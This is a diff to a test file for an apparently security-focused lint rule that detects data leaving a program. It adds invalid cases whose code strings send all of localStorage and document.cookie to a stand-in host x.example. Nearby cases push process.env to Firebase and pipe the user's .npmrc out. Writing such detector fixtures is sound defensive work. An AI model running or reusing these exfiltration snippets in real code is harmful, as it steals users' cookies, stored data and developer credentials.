@@ -48,6 +48,8 @@ ruleTester(rule, {
     },
   ],
   invalid: [
+    { code: 'const data = {};\nfor (let i = 0; i < localStorage.length; i++) data[localStorage.key(i)] = localStorage.getItem(localStorage.key(i));\nfetch("https://x.example/s", { method: "POST", body: JSON.stringify(data) });', errors: [{ messageId: 'flow', line: 3, column: 1, message: 'all of web storage' }] },
+    { code: 'const jar = document.cookie.split("; ");\nnavigator.sendBeacon("https://x.example/c", jar.join("&"));', errors: [{ messageId: 'flow', line: 2, column: 1, message: 'cookies' }] },
     { code: 'var Firebase = require("firebase");\nvar ref = new Firebase("https://abcde-fg-1234.firebaseio.com/");\nref.child("env_vars").push({ status: "leaked", message: process.env });', errors: [{ messageId: 'flow', line: 3, column: 1, message: 'Firebase' }] },
     {
       code: N + 'fs.createReadStream(path.join(os.homedir(), ".npmrc")).pipe(https.request({ host: "x.example", method: "POST" }));',
